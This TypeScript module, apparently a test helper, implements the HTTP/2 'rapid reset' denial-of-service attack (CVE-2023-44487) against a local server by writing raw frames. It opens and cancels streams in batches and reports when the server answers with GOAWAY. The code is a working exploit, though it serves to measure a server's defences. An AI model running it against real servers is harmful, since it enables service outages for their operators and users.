// A raw HTTP/2 client for attacks a polite client library will not make: it
// writes frames itself (RFC 9113 §4.1) and reads the server's GOAWAY.
import * as net from "node:net";

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "latin1");
const TYPE = { HEADERS: 0x1, RST_STREAM: 0x3, SETTINGS: 0x4, PING: 0x6, GOAWAY: 0x7 } as const;
const END_HEADERS = 0x4;
const CANCEL = 0x8;
/** HPACK: :method POST, :scheme http, :path / (static table 3, 6, 4), :authority "x" (literal, not indexed). */
const REQUEST_HEADERS = Buffer.from([0x83, 0x86, 0x84, 0x01, 0x01, 0x78]);

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([header, payload]);
}

/** What the server did about the resets. */
export interface RapidResetOutcome {
  /** Streams opened and reset before the server sent GOAWAY (all of them if it never did). */
  sent: number;
  /** The GOAWAY's error code, if one came. */
  goawayCode?: number;
  /** How many of them the server had seen when it sent GOAWAY (from the frame's last stream id). */
  seenByServer?: number;
}

/**
 * The HTTP/2 "rapid reset" attack (CVE-2023-44487) on one connection: a
 * request's HEADERS and at once its RST_STREAM (CANCEL), `count` times, in
 * batches, stopping at the server's GOAWAY. After each batch it waits for the
 * answer to a PING, so the server has read the batch before the next one
 * goes: what is measured is the server's limit, not how many frames one of
 * its socket reads happened to hold on a busy machine.
 */
export function rapidReset(port: number, count: number, batch = 50): Promise<RapidResetOutcome> {
  return new Promise((resolve) => {
    const socket = net.connect(port, "127.0.0.1");
    let sent = 0;
    let goawayCode: number | undefined;
    let seenByServer: number | undefined;
    let inbox = Buffer.alloc(0);
    let pong: (() => void) | undefined;
    const finish = () => {
      pong?.();
      socket.destroy();
      resolve({ sent, goawayCode, seenByServer });
    };
    socket.on("error", finish);
    socket.on("close", finish);
    socket.on("data", (data: Buffer) => {
      inbox = Buffer.concat([inbox, data]);
      while (inbox.length >= 9 && inbox.length >= 9 + inbox.readUIntBE(0, 3)) {
        const length = inbox.readUIntBE(0, 3);
        if (inbox[3] === TYPE.GOAWAY) {
          seenByServer = ((inbox.readUInt32BE(9) & 0x7fffffff) + 1) / 2;
          goawayCode = inbox.readUInt32BE(9 + 4);
        }
        if (inbox[3] === TYPE.SETTINGS && (inbox[4]! & 0x1) === 0) socket.write(frame(TYPE.SETTINGS, 0x1, 0, Buffer.alloc(0))); // ACK
        if (inbox[3] === TYPE.PING && (inbox[4]! & 0x1) === 1) pong?.();
        inbox = inbox.subarray(9 + length);
      }
      if (goawayCode !== undefined) finish();
    });
    socket.once("connect", async () => {
      socket.write(Buffer.concat([PREFACE, frame(TYPE.SETTINGS, 0, 0, Buffer.alloc(0))]));
      while (sent < count && goawayCode === undefined && !socket.destroyed) {
        const frames: Buffer[] = [];
        for (let i = 0; i < batch && sent < count; i++, sent++) {
          const id = 1 + 2 * sent;
          const code = Buffer.alloc(4);
          code.writeUInt32BE(CANCEL);
          frames.push(frame(TYPE.HEADERS, END_HEADERS, id, REQUEST_HEADERS), frame(TYPE.RST_STREAM, 0, id, code));
        }
        socket.write(Buffer.concat([...frames, frame(TYPE.PING, 0, 0, Buffer.alloc(8))]));
        await new Promise<void>((resolve) => (pong = resolve));
      }
      // Give a GOAWAY a moment to arrive, then report.
      setTimeout(finish, 2_000);
    });
  });
}
